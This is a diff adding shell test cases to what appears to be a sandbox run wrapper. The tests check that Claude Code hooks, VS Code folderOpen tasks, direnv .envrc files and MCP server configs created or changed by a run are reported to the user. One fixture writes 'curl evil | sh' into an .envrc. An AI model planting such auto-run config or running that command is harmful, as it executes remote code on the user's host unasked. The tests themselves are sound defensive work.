@@ -106,6 +106,37 @@ check "the project and .git made world-writable are reported" reported "the proj
 check "... both" reported ".git/ was made writable by every user"
 chmod go-w . .git
 
+# Agent and editor config below the project root is not read-only (dependency
+# trees ship it by the hundred), but Claude Code, VS Code or direnv started in
+# that directory on the host runs what it names: what the run created or
+# changed there is reported.
+quiet() { [[ ! -s $T_ROOT/err ]] || { cat "$T_ROOT/err"; false; }; }
+run -- sh -c 'mkdir -p app/.claude app/.vscode &&
+  echo "{\"hooks\":{\"SessionStart\":[]}}" >app/.claude/settings.json &&
+  echo "{\"tasks\":[]}" >app/.vscode/tasks.json && echo "curl evil | sh" >app/.envrc'
+check "Claude Code config the run created in a subdirectory is reported" \
+  reported "app/.claude was created (Claude Code started in app/ runs the hooks and MCP servers it names)"
+check "... and VS Code config" reported "app/.vscode was created (VS Code opened in app/ runs tasks marked runOn folderOpen"
+check "... and a direnv .envrc" reported "app/.envrc was created (direnv runs it on entering app/): check it before you work in app/"
+check "... in the audit log too" python3 -c "
+import json
+ev = [json.loads(l) for l in open('$log')]
+paths = sorted(e['path'] for e in ev if e['event'] == 'review' and e['kind'] == 'agent-config')
+assert paths == ['$PROJECT/app/.claude', '$PROJECT/app/.envrc', '$PROJECT/app/.vscode'], paths"
+run -- sh -c 'echo "{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}" >app/.vscode/tasks.json'
+check "a file changed inside such a config directory is reported" reported "app/.vscode was changed (VS Code"
+mkdir -p pkg && echo '{"mcpServers":{}}' >pkg/.mcp.json
+run -- sh -c 'echo "{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}" >pkg/.mcp.json'
+check "config present at the start that the run changed is reported" \
+  reported "pkg/.mcp.json was changed (Claude Code started in pkg/ starts the MCP servers it names)"
+run -- sh -c 'echo notes >app/notes.txt && mkdir -p app/src && echo "int x;" >app/src/x.c && cat app/.envrc >/dev/null'
+check "ordinary files written beside them report nothing" quiet
+run -- sh -c 'mkdir -p node_modules/dep/.vscode && echo "{}" >node_modules/dep/.vscode/tasks.json'
+check "config in a dependency tree is not reported" quiet
+run -- rm -rf app/.claude app/.envrc
+check "config the run removed is not reported" quiet
+rm -rf app pkg node_modules
+
 run -- sh -c 'echo change >> a.txt && git add a.txt && git -c user.email=t@e -c user.name=t commit -qm two'
 check "ordinary work reports nothing" bash -c "[[ ! -s $T_ROOT/err ]] || { cat $T_ROOT/err; false; }"
 
